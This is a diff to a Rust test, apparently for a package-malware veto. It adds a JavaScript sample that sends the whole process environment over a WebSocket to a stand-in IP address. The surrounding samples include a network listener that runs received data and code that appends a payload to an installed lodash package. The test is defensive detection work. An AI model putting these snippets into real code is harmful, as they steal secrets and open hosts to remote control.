@@ -1926,6 +1926,10 @@ fn code_that_spies_on_the_user_is_not_allowed_on_scores_alone() {
     let listens = "require('net').createServer((s) => s.on('data', (d) => run(d))).listen(8731);\n";
     let plants = "const t = require.resolve('lodash');\n\
         require('fs').appendFileSync(t, PAYLOAD);\n";
+    // The whole environment sent over a WebSocket (session 21: allowed with
+    // the shipped models, the veto scoring its lines 0.0013).
+    let environ = "const body = JSON.stringify(process.env);\n\
+        new WebSocket('wss://203.0.113.9').onopen = function () { this.send(body); };\n";
     let line = index.split(|&b| b == b'\n').count() + 1;
     for (name, payload, what) in [
         ("keys.tgz", keys, "reads keystrokes"),
@@ -1940,6 +1944,7 @@ fn code_that_spies_on_the_user_is_not_allowed_on_scores_alone() {
             plants,
             "writes where another installed package lives",
         ),
+        ("environ.tgz", environ, "serializes the whole environment"),
     ] {
         let mut patched = index.clone();
         patched.extend_from_slice(format!("\n{payload}").as_bytes());
